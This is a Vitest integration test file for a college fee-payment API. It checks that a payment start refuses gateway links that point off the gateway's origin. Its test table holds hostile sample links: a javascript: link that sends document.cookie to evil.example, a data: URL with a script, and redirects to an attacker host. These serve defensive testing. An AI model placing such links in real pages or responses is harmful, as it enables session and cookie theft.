import { count, eq } from 'drizzle-orm';
import pino from 'pino';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { FEE_MESSAGES as M } from '../../src/domain/payments/messages';
import { createApp } from '../../src/server/app';
import { loadConfig } from '../../src/server/config';
import { feePaymentOrders } from '../../src/server/db/schema';
import type { Charge } from '../../src/server/gateway/charge';
import { seededDatabase, type TestDatabase } from './support/databases';
import { SessionClient } from './support/session-client';

const PUBLIC_URL = 'http://erp.college.test';
const EXAM_8 = { feeType: 'EXAM FEE', semester: 8, amount: '1850.00' };

let database: TestDatabase;
/** What the gateway puts in paymentLink: the sandbox's own link, unless a test makes it answer another. */
let rewriteLink: ((link: string) => string) | null = null;

/** The app with the in-process sandbox as its gateway; the gateway's answers pass through `rewriteLink`. */
function appWith(env: Record<string, string> = {}) {
  const holder: { app?: ReturnType<typeof createApp> } = {};
  const gatewayFetch = (async (input: string | URL | Request, init?: RequestInit) => {
    const res = await holder.app!.request(String(input), init);
    if (!res.ok || !rewriteLink) return res;
    const charge = (await res.json()) as Charge;
    return Response.json({ ...charge, paymentLink: rewriteLink(charge.paymentLink) }, { status: res.status });
  }) as typeof fetch;
  holder.app = createApp({
    config: loadConfig({
      STATIC_DIR: '/nonexistent-static',
      DATA_DIR: '/tmp',
      PAYMENT_SANDBOX: '1',
      PUBLIC_URL,
      ...env,
    }),
    database: database.handle,
    logger: pino({ level: 'silent' }),
    gatewayFetch,
    sandboxWebhook: { retryDelaysMs: [], timeoutMs: 200 },
  });
  return holder.app;
}

async function student(app: ReturnType<typeof createApp>) {
  const client = new SessionClient(app);
  expect((await client.signIn('student', 'Campus@2026')).status).toBe(200);
  return client;
}

beforeAll(async () => {
  database = await seededDatabase('pglite', {
    collegeCode: 'DEMO',
    collegeName: 'Demo College',
    paymentHistory: false,
  });
}, 180_000);
afterAll(async () => database?.drop());
// Each test starts with the gateway's own links and no open charge that a payment start would offer again.
beforeEach(async () => {
  rewriteLink = null;
  await database.handle.db
    .update(feePaymentOrders)
    .set({ status: 'DROPPED' })
    .where(eq(feePaymentOrders.status, 'DUE'));
});

const orders = async () =>
  (await database.handle.db.select({ n: count() }).from(feePaymentOrders).where(eq(feePaymentOrders.status, 'DUE')))[0]!
    .n;

describe('a payment start answers only a paymentLink on the gateway’s origin', () => {
  it('answers the sandbox’s link with the origin it was checked against', async () => {
    rewriteLink = null;
    const app = appWith();
    const res = await (await student(app)).request('/api/app/payFee', { json: EXAM_8 });
    expect(res.status).toBe(201);
    const started = (await res.json()) as { paymentLink: string; paymentLinkOrigin: string; chargeUuid: string };
    expect(started.paymentLink).toBe(`${PUBLIC_URL}/sandbox-gateway/pay/${started.chargeUuid}`);
    expect(started.paymentLinkOrigin).toBe(PUBLIC_URL);
    await database.handle.db.update(feePaymentOrders).set({ status: 'DROPPED' });
  });

  for (const [what, link] of [
    ['a javascript: link', () => 'javascript:fetch("https://evil.example/?c="+document.cookie)'],
    ['a data: link', () => 'data:text/html,<script>alert(1)</script>'],
    ['a link on another site', (l: string) => l.replace(PUBLIC_URL, 'https://evil.example')],
    ['a link on another port of the same host', (l: string) => l.replace(PUBLIC_URL, `${PUBLIC_URL}:8081`)],
  ] as const) {
    it(`refuses a gateway answering ${what} (502, the payer's message) and keeps no open order`, async () => {
      rewriteLink = link;
      const app = appWith();
      const before = await orders();
      const res = await (await student(app)).request('/api/app/payFee', { json: EXAM_8 });
      const body = (await res.json()) as { message?: string; paymentLink?: string };
      expect(res.status).toBe(502);
      expect(body).toEqual({ message: M.paymentLinkRefused });
      expect(await orders()).toBe(before);
    });
  }

  it('PAYMENT_LINK_ORIGIN names another origin for the payment pages: links there pass, the API origin then does not', async () => {
    rewriteLink = (l) => l.replace(PUBLIC_URL, 'https://pay.gateway.test');
    const app = appWith({ PAYMENT_LINK_ORIGIN: 'https://pay.gateway.test' });
    const client = await student(app);
    const res = await client.request('/api/app/payFee', { json: EXAM_8 });
    expect(res.status).toBe(201);
    expect(((await res.json()) as { paymentLinkOrigin: string }).paymentLinkOrigin).toBe('https://pay.gateway.test');
    await database.handle.db.update(feePaymentOrders).set({ status: 'DROPPED' });
    rewriteLink = null;
    expect((await client.request('/api/app/payFee', { json: EXAM_8 })).status).toBe(502);
  });

  it('never answers a stored link that breaks the rule: not for a repeated request, not as the open charge offered again', async () => {
    rewriteLink = null;
    const app = appWith();
    const client = await student(app);
    const headers = { 'Idempotency-Key': 'pay-link-test-0001' };
    const first = await client.request('/api/app/payFee', { json: EXAM_8, headers });
    expect(first.status).toBe(201);
    const { orderId } = (await first.json()) as { orderId: string };
    // As a charge made before the rule, or by a gateway that answered it then.
    await database.handle.db
      .update(feePaymentOrders)
      .set({ paymentLink: 'javascript:alert(1)' })
      .where(eq(feePaymentOrders.orderId, orderId));
    const again = await client.request('/api/app/payFee', { json: EXAM_8, headers });
    expect([again.status, await again.json()]).toEqual([502, { message: M.paymentLinkRefused }]);
    const fresh = await client.request('/api/app/payFee', { json: EXAM_8 });
    expect(fresh.status).toBe(201);
    const started = (await fresh.json()) as { orderId: string; paymentLink: string };
    expect(started.orderId).not.toBe(orderId);
    expect(started.paymentLink.startsWith(`${PUBLIC_URL}/sandbox-gateway/pay/`)).toBe(true);
  });
});
